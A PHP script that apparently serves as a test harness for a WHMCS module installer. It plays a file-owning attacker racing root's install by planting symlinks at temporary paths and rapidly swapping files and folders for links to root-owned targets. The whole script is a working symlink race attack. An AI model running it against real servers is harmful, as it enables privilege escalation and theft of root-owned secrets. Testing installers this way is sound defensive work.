<?php

/*
 * What somebody does who owns WHMCS's files, while root installs: swaps files and folders for links to files of root's
 * and back, as fast as it goes, until it is killed.
 *
 *   attacker.php ATTACK WHMCS TREASURE
 *
 * WHMCS/swapped is as long as the number of turns.
 */

declare(strict_types=1);

[, $attack, $whmcs, $treasure] = $argv;
$servers = "$whmcs/modules/servers";
$module = "$servers/convoy";
set_error_handler(static function (): bool {
    // What isn't there just now comes with the next turn.
    return true;
});

/** Puts a link in a path's place for a moment. */
$swap = static function (string $path, string $target, int $microseconds = 300): void {
    static $number = 0;
    $aside = dirname($path) . '/aside-' . $number++ % 10;
    if (rename($path, $aside)) {
        symlink($target, $path);
        usleep(random_int(0, $microseconds));
        unlink($path);
        rename($aside, $path);
    }
};
$fixed = ['.htaccess', 'SHA256SUMS', 'convoy.php', 'install.sh', 'manifest.json', 'previous.json', 'whmcs.json'];
$attacks = [
    // Where the script writes before it renames.
    'new files' => static function () use ($module, $treasure, $fixed): void {
        foreach ($fixed as $name) {
            symlink("$treasure/profile.sh", "$module/.new-$name");
        }
        foreach (glob("$module/sets/*/functions.php") ?: [] as $file) {
            symlink("$treasure/secret", "$module/sets/.new-" . basename(dirname($file)) . '/functions.php');
        }
    },
    // Files whose mode the script sets.
    'modes' => static function () use ($module, $treasure, $swap): void {
        foreach (glob("$module/{,sets/*/,sets/.new-*/}*.php", GLOB_BRACE) ?: [] as $file) {
            chmod($file, 0600);
            $swap($file, "$treasure/secret");
        }
        $swap("$module/LICENSE", "$treasure/profile.sh");
    },
    'the sets' => static function () use ($module, $treasure, $swap): void {
        $swap("$module/sets", "$treasure/sets");
        usleep(random_int(0, 20000));
    },
    'the module' => static function () use ($module, $treasure, $swap): void {
        $swap("$module/bin", "$treasure/bin");
        usleep(random_int(0, 20000));
        $swap($module, "$treasure/servers/convoy", 20000);
    },
    'the folders above' => static function () use ($servers, $treasure, $swap): void {
        usleep(random_int(0, 20000));
        $swap($servers, "$treasure/servers", 20000);
    },
];
while (true) {
    $attacks[$attack]();
    file_put_contents("$whmcs/swapped", '.', FILE_APPEND);
}
